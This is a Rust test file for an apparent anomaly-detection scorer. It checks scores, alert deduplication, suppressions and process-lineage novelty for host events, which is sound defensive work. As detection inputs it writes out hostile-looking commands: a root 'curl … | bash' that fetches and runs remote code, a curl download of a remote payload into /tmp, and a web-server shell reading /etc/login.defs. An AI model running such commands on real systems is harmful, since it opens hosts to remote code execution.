//! The first seed's acceptance scenarios, scored in-process (the same path
//! the pipeline runs; `e2e/tests/scenarios.rs` runs them through Kafka).

use std::collections::HashMap;

use outlier_common::json;
use outlier_proto::{Event, ScoredEvent, Verdict};
use outlier_scorer::config::ScoringConfig;
use outlier_scorer::judge::Judge;

/// The demo's events, one second apart; `start` continues the clock.
fn load(file: &str, start: u64) -> Vec<Event> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../compose/demo")
        .join(file);
    let text = std::fs::read_to_string(path).unwrap();
    let mut t = start;
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            t += 1_000_000_000;
            let l = l.replace("@ORG@", "acme").replace("@RUN@", "t");
            json::parse_line(&l, t, || unreachable!()).unwrap()
        })
        .collect()
}

fn run() -> HashMap<String, ScoredEvent> {
    let scoring = ScoringConfig::default();
    let classifier = outlier_scorer::threat::classifier(&scoring.classifier).unwrap();
    assert!(classifier.is_some(), "the classifier is on by default");
    let mut judge = Judge::new(scoring, 200, classifier);
    let mut clock = 1_800_000_000_000_000_000u64;
    for e in load("baseline.jsonl", clock) {
        clock = e.ts_ns;
        judge.score(e);
    }
    load("scenarios.jsonl", clock)
        .into_iter()
        .map(|e| {
            let s = judge.score(e);
            let id = s
                .event
                .as_ref()
                .unwrap()
                .event_id
                .trim_start_matches("t-")
                .to_string();
            println!(
                "{id:28} {:.3} {:?} {} {} {:.3} {}",
                s.anomaly_score,
                s.verdict(),
                s.threat_category,
                s.technique,
                s.confidence,
                s.explanation
            );
            (id, s)
        })
        .collect()
}

#[test]
fn the_seed_scenarios_score_as_the_seed_reports() {
    let s = run();
    let score = |id: &str| s[id].anomaly_score;
    // "Your usual nginx worker restarts → score 0.02, ignored"
    assert!(
        score("nginx-worker-restart") <= 0.1,
        "{}",
        score("nginx-worker-restart")
    );
    assert_eq!(s["nginx-worker-restart"].verdict(), Verdict::Ok);
    // "A developer accidentally leaves a debug shell running → 0.85, warn"
    assert!(
        (0.7..0.9).contains(&score("debug-shell-left-open")),
        "{}",
        score("debug-shell-left-open")
    );
    assert_eq!(s["debug-shell-left-open"].verdict(), Verdict::Warn);
    // "A new build script … 0.72 on first run, drops to 0.1 after the second"
    assert!(
        (0.55..0.85).contains(&score("new-ci-script-first-run")),
        "{}",
        score("new-ci-script-first-run")
    );
    assert!(
        score("new-ci-script-second-run") <= 0.15,
        "{}",
        score("new-ci-script-second-run")
    );
    // "Someone runs curl | bash as root → 0.94, flagged immediately"
    assert!(
        score("curl-pipe-bash-as-root") > 0.9,
        "{}",
        score("curl-pipe-bash-as-root")
    );
    assert_eq!(s["curl-pipe-bash-as-root"].verdict(), Verdict::Alert);

    // The classifier: routine is benign; the reverse shell from the web
    // app is called malicious on its own, with a technique and sentences.
    assert_eq!(s["nginx-worker-restart"].threat_category, "benign");
    let rs = &s["reverse-shell-from-web-app"];
    assert!(
        ["command-and-control", "execution"].contains(&rs.threat_category.as_str()),
        "{}",
        rs.threat_category
    );
    assert!(rs.technique.starts_with('T'), "{}", rs.technique);
    assert!(rs.confidence > 0.3 && rs.confidence <= 1.0);
    assert!(!rs.contributions.is_empty());
    assert!(
        rs.contributions
            .iter()
            .all(|c| c.shap > 0.0 && !c.sentence.is_empty())
    );
    assert!(rs.explanation.contains(&rs.contributions[0].sentence));
}

/// A judge that has learned the demo's baseline, and the clock after it.
fn trained() -> (Judge, u64) {
    let scoring = ScoringConfig::default();
    let classifier = outlier_scorer::threat::classifier(&scoring.classifier).unwrap();
    let mut judge = Judge::new(scoring, 200, classifier);
    let mut clock = 1_800_000_000_000_000_000u64;
    for e in load("baseline.jsonl", clock) {
        clock = e.ts_ns;
        judge.score(e);
    }
    (judge, clock)
}

#[test]
fn an_unconfirmed_alert_is_raised_once_per_host_and_window_until_feedback() {
    let (mut judge, clock) = trained();
    let attack = load("scenarios.jsonl", clock)
        .into_iter()
        .find(|e| e.event_id.ends_with("curl-pipe-bash-as-root"))
        .unwrap();
    let at = |e: &Event, id: &str, host: &str, ts: u64| {
        let mut e = e.clone();
        e.event_id = id.to_string();
        e.host = host.to_string();
        e.ts_ns = ts;
        e
    };
    let t0 = attack.ts_ns;
    let s = 1_000_000_000u64;
    let first = judge.score(at(&attack, "a1", "web-3", t0));
    assert_eq!(first.verdict(), Verdict::Alert);
    assert!(!first.learned);

    // The same behaviour on the same host a minute later: not a new alert,
    // not learned, and it names the alert it repeats.
    let again = judge.score(at(&attack, "a2", "web-3", t0 + 60 * s));
    assert_eq!(again.verdict(), Verdict::Ok, "{}", again.explanation);
    assert!(!again.learned);
    assert!(
        again
            .explanation
            .starts_with("repeat 1 of alert a1, raised 60 s before"),
        "{}",
        again.explanation
    );
    assert!(again.anomaly_score > 0.9, "the evidence is still reported");

    // On another host it is an alert of its own.
    let other = judge.score(at(&attack, "b1", "web-4", t0 + 61 * s));
    assert_eq!(other.verdict(), Verdict::Alert);

    // After the window (a day by default) it alerts again, once.
    let day = 86_400 * s;
    let later = judge.score(at(&attack, "a3", "web-3", t0 + day + s));
    assert_eq!(later.verdict(), Verdict::Alert);
    let after = judge.score(at(&attack, "a4", "web-3", t0 + day + 2 * s));
    assert_eq!(after.verdict(), Verdict::Ok);
    assert!(
        after.explanation.contains("alert a3"),
        "{}",
        after.explanation
    );

    // Confirmed malicious: the wait ends, so the next one alerts again
    // (and the fleet signature the indexer publishes keeps it alerting).
    let feedback = |judge: &mut Judge, e: Event, label: outlier_proto::FeedbackLabel| {
        judge.feedback(&outlier_proto::Feedback {
            ts_ns: e.ts_ns + s,
            event: Some(e),
            label: label as i32,
            actor: "op".into(),
            note: String::new(),
        })
    };
    let malicious = outlier_proto::FeedbackLabel::Malicious;
    feedback(
        &mut judge,
        at(&attack, "a4", "web-3", t0 + day + 2 * s),
        malicious,
    );
    let next = judge.score(at(&attack, "a5", "web-3", t0 + day + 4 * s));
    assert_eq!(next.verdict(), Verdict::Alert);

    // Confirmed benign: learned (known behaviour; the classifier's
    // high-precision indicator may still speak for it).
    let benign = outlier_proto::FeedbackLabel::Benign;
    feedback(
        &mut judge,
        at(&attack, "a5", "web-3", t0 + day + 4 * s),
        benign,
    );
    let known = judge.score(at(&attack, "a6", "web-3", t0 + day + 6 * s));
    assert!(known.anomaly_score < 0.05, "{}", known.anomaly_score);
}

#[test]
fn a_suppressed_alert_does_not_hold_back_its_repeats() {
    let (judge, clock) = trained();
    let rules = outlier_common::suppress::Suppressions::default();
    let mut judge = judge.with_suppressions(rules.clone());
    let attack = load("scenarios.jsonl", clock)
        .into_iter()
        .find(|e| e.event_id.ends_with("curl-pipe-bash-as-root"))
        .unwrap();
    let mut rule = outlier_proto::Suppression {
        suppression_id: "s1".into(),
        org: attack.org.clone(),
        host: attack.host.clone(),
        program: "bash".into(),
        expires_ns: u64::MAX,
        reason: "our installer".into(),
        ..Default::default()
    };
    rules.apply(rule.clone()).unwrap();
    let nth = |judge: &mut Judge, n: u64| {
        let mut e = attack.clone();
        e.event_id = format!("s-{n}");
        e.ts_ns += n * 1_000_000_000;
        judge.score(e)
    };
    // Suppressed alerts (the pipeline keeps them off the alerts topic):
    // each stays an alert, none is a repeat of one nobody saw.
    for n in 1..=2 {
        assert_eq!(nth(&mut judge, n).verdict(), Verdict::Alert);
    }
    rule.revoked = true;
    rules.apply(rule).unwrap();
    assert_eq!(
        nth(&mut judge, 3).verdict(),
        Verdict::Alert,
        "alerts once revoked"
    );
    let repeat = nth(&mut judge, 4);
    assert_eq!(repeat.verdict(), Verdict::Ok);
    assert!(
        repeat.explanation.contains("alert s-3"),
        "{}",
        repeat.explanation
    );
}

/// A workload busy with new work gets its own operating point: once more
/// than its budget of recent events would flag, the excess is taken off
/// its decision, while a quiet workload's is untouched and high-precision
/// indicators still alert on the busy one.
#[test]
fn a_workload_busy_with_new_work_flags_within_its_own_budget() {
    let mut scoring = ScoringConfig::default();
    let d = &mut scoring.decision;
    d.adapt_min_events = 100;
    d.own_budget = 0.01;
    d.own_period = 400;
    let classifier = outlier_scorer::threat::classifier(&scoring.classifier).unwrap();
    let mut judge = Judge::new(scoring, 200, classifier);
    let template = load("baseline.jsonl", 1_800_000_000_000_000_000)
        .into_iter()
        .find(|e| e.workload == "web" && e.kind_name() == "exec")
        .unwrap();
    let mut clock = template.ts_ns;
    let mut event = |workload: &str, comm: &str, parent: &str, argv: &[&str]| {
        clock += 1_000_000_000;
        let mut e = template.clone();
        e.event_id = format!("{workload}-{clock}");
        e.workload = workload.to_string();
        e.host = format!("{workload}-1");
        e.ts_ns = clock;
        e.comm = comm.to_string();
        e.parent_comm = parent.to_string();
        e.exe = format!("/usr/bin/{comm}");
        if let Some(outlier_proto::event::Detail::Exec(x)) = e.detail.as_mut() {
            x.argv = argv.iter().map(|a| a.to_string()).collect();
        }
        e
    };
    // Both workloads learn their routine.
    for w in ["busy", "quiet"] {
        for i in 0..300 {
            let e = event(
                w,
                "make",
                "bash",
                &["make", "-j2", ["all", "test", "lint"][i % 3]],
            );
            judge.score(e);
        }
    }
    // The busy one then runs new tools, one new lineage after another.
    // Names of letters that are not hex digits (numbers and hex ids are
    // normalised away), one new program and parent after another.
    let name = |mut i: usize| {
        let mut s = String::new();
        for _ in 0..4 {
            s.push(char::from(b'g' + (i % 20) as u8));
            i /= 20;
        }
        s
    };
    let mut flagged = Vec::new();
    for i in 0..1_600 {
        let comm = format!("tool{}", name(i));
        let parent = format!("dh{}", name(i * 7 + 3));
        let flag = format!("--{}", name(i * 11 + 5));
        let path = format!("/opt/{}/{}", name(i * 13 + 1), name(i * 17 + 2));
        let e = event("busy", &comm, &parent, &[&comm, &flag, &path]);
        let (s, _) = judge.score_detailed(e);
        flagged.push(matches!(s.verdict(), Verdict::Warn | Verdict::Alert));
    }
    let share = |v: &[bool]| v.iter().filter(|f| **f).count() as f64 / v.len() as f64;
    let (early, late) = (share(&flagged[..400]), share(&flagged[1_200..]));
    assert!(
        early > 0.3,
        "new work flags before the operating point moves: {early}"
    );
    assert!(
        late <= 0.03,
        "then within about its budget: {late} (early {early})"
    );

    // The same new tool: shifted on the busy workload, flagged on the quiet.
    let novel = ["frobnicate", "--quux", "/opt/zyx/wvu"];
    let (busy, bs) = judge.score_detailed(event("busy", "frobnicate", "dhnew", &novel));
    let (quiet, qs) = judge.score_detailed(event("quiet", "frobnicate", "dhnew", &novel));
    assert_eq!(busy.verdict(), Verdict::Ok, "{}", busy.explanation);
    assert!(
        busy.explanation
            .contains("taken off (its own operating point"),
        "{}",
        busy.explanation
    );
    assert!(
        bs.own_shift > 0.0 && qs.own_shift == 0.0,
        "{} {}",
        bs.own_shift,
        qs.own_shift
    );
    assert_ne!(quiet.verdict(), Verdict::Ok, "{}", quiet.explanation);
    assert!(bs.p_decision < qs.p_decision);
    // What the shift kept from alerting is not learned: a busy spell
    // cannot teach the workload an attack that happened during it. The
    // quiet workload alerts on the same behaviour; the busy one only warns,
    // does not learn it, and alerts on it once its spell is over.
    let fetch = ["curl", "-so", "/tmp/x", "http://198.51.100.7/a"];
    let (quiet, _) = judge.score_detailed(event("quiet", "curl", "dhbad", &fetch));
    assert_eq!(quiet.verdict(), Verdict::Alert, "{}", quiet.explanation);
    let (busy, _) = judge.score_detailed(event("busy", "curl", "dhbad", &fetch));
    assert_ne!(busy.verdict(), Verdict::Alert, "{}", busy.explanation);
    assert!(!busy.learned, "{}", busy.explanation);
    assert!(
        busy.explanation
            .contains("not learned until confirmed benign"),
        "{}",
        busy.explanation
    );
    // What the fleet's decision itself would not alert on is learned as
    // before, shifted or not.
    let list = ["crontab", "-l"];
    let (busy, signals) = judge.score_detailed(event("busy", "crontab", "dhbad", &list));
    assert_eq!(busy.verdict(), Verdict::Ok, "{}", busy.explanation);
    assert!(
        signals.p_decision < 0.9 && busy.learned,
        "{}",
        busy.explanation
    );
    // Two periods of its routine: the shift is gone, and the fetch alerts.
    for i in 0..800 {
        judge.score(event(
            "busy",
            "make",
            "bash",
            &["make", "-j2", ["all", "test", "lint"][i % 3]],
        ));
    }
    let (after, signals) = judge.score_detailed(event("busy", "curl", "dhbad", &fetch));
    assert_eq!(signals.own_shift, 0.0);
    assert_eq!(after.verdict(), Verdict::Alert, "{}", after.explanation);

    // A high-precision indicator is never shifted.
    let mut shell = event(
        "busy",
        "bash",
        "sudo",
        &["bash", "-c", "curl -s http://203.0.113.9/x | bash"],
    );
    shell.uid = 0;
    let (s, signals) = judge.score_detailed(shell);
    assert!(signals.high_precision.is_some());
    assert_eq!(s.verdict(), Verdict::Alert, "{}", s.explanation);

    // New work in a burst after a quiet spell is held to the budget while
    // it happens (the current period counts), not only a period later.
    let mut burst = Vec::new();
    for i in 5_000..5_400 {
        let comm = format!("util{}", name(i));
        let parent = format!("dg{}", name(i * 7 + 3));
        let path = format!("/srv/{}/{}", name(i * 13 + 1), name(i * 17 + 2));
        let e = event("busy", &comm, &parent, &[&comm, &path]);
        let (s, _) = judge.score_detailed(e);
        burst.push(matches!(s.verdict(), Verdict::Warn | Verdict::Alert));
    }
    let held = share(&burst);
    assert!(held <= 0.05, "a burst after a quiet spell: {held}");
}

#[test]
fn a_program_new_to_a_web_servers_process_tree_is_a_new_lineage() {
    let mut scoring = ScoringConfig::default();
    scoring.decision.adapt_min_events = 100;
    let classifier = outlier_scorer::threat::classifier(&scoring.classifier).unwrap();
    let mut judge = Judge::new(scoring, 200, classifier);
    let template = load("baseline.jsonl", 1_800_000_000_000_000_000)
        .into_iter()
        .find(|e| e.workload == "web" && e.kind_name() == "exec")
        .unwrap();
    let mut clock = template.ts_ns;
    let mut next_pid = 1_000u32;
    let mut exec = |ppid: u32, comm: &str, parent: &str, argv: &[&str], after_s: u64| {
        clock += after_s * 1_000_000_000;
        next_pid += 1;
        let mut e = template.clone();
        e.event_id = format!("shop-{clock}");
        e.workload = "shop".into();
        e.host = "shop-1".into();
        e.ts_ns = clock;
        e.pid = next_pid;
        e.ppid = ppid;
        e.uid = 33;
        e.comm = comm.to_string();
        e.parent_comm = parent.to_string();
        e.exe = format!("/usr/bin/{comm}");
        if let Some(outlier_proto::event::Detail::Exec(x)) = e.detail.as_mut() {
            x.argv = argv.iter().map(|a| a.to_string()).collect();
        }
        e
    };
    // The web app compresses uploads through `sh -c gzip`; a cron job
    // counts log lines with `cat` and `wc`: both under `sh` are routine on
    // the host.
    let mut request_shell = 0;
    for i in 0..150 {
        let path = format!("/tmp/rep{i:04}");
        let sh = exec(
            100,
            "sh",
            "php-fpm8.2",
            &["sh", "-c", &format!("gzip -9 '{path}'")],
            1,
        );
        request_shell = sh.pid;
        judge.score(sh);
        judge.score(exec(request_shell, "gzip", "sh", &["gzip", "-9", &path], 0));
        let sh = exec(
            50,
            "sh",
            "cron",
            &["sh", "-c", "cat /var/log/app.log | wc -l"],
            0,
        );
        let pid = sh.pid;
        judge.score(sh);
        judge.score(exec(pid, "cat", "sh", &["cat", "/var/log/app.log"], 0));
        judge.score(exec(pid, "wc", "sh", &["wc", "-l"], 0));
    }
    // A shell started by `parent` (pid `ppid`) running `cat FILE`; the
    // `cat`'s scoring.
    let mut cat_under = |judge: &mut Judge, ppid: u32, parent: &str, file: &str| {
        let line = format!("cat {file}");
        let sh = exec(ppid, "sh", parent, &["sh", "-c", &line], 1);
        let pid = sh.pid;
        judge.score(sh);
        judge.score_detailed(exec(pid, "cat", "sh", &["cat", file], 0))
    };
    // Run by a web request's shell: new to the web server's process tree.
    let (web, ws) = cat_under(&mut judge, 100, "php-fpm8.2", "/etc/login.defs");
    assert!(ws.new_lineage, "{}", web.explanation);
    assert!(
        web.explanation
            .contains("new to this workload: cat in php-fpm8.2's process tree"),
        "{}",
        web.explanation
    );
    // A flagged event does not teach the web server's tree its program:
    // the next request's `cat` is still new to it.
    assert_ne!(web.verdict(), Verdict::Ok, "{}", web.explanation);
    let (again, gs) = cat_under(&mut judge, 100, "php-fpm8.2", "config.php");
    assert!(gs.new_lineage, "{}", again.explanation);
    // An operator confirms it benign: `cat` is the tree's own from then on.
    let confirmed = again.event.clone().unwrap();
    judge.feedback(&outlier_proto::Feedback {
        ts_ns: confirmed.ts_ns + 1,
        event: Some(confirmed),
        label: outlier_proto::FeedbackLabel::Benign as i32,
        actor: "op".into(),
        note: String::new(),
    });
    let (answered, an) = cat_under(&mut judge, 100, "php-fpm8.2", "VERSION");
    assert!(!an.new_lineage, "{}", answered.explanation);
    // The same read under cron's shell: nothing new about its lineage.
    let (cron, cs) = cat_under(&mut judge, 50, "cron", "/etc/login.defs");
    assert!(!cs.new_lineage, "{}", cron.explanation);
    // A shell of the pid of an old request's, ten minutes on (pids come
    // round; the collector reports no exits), is not taken for the web
    // server's: `wc` under it is routine (under cron's shells).
    let (stale, ss) = judge.score_detailed(exec(request_shell, "wc", "sh", &["wc", "-l"], 600));
    assert!(!ss.new_lineage, "{}", stale.explanation);
}
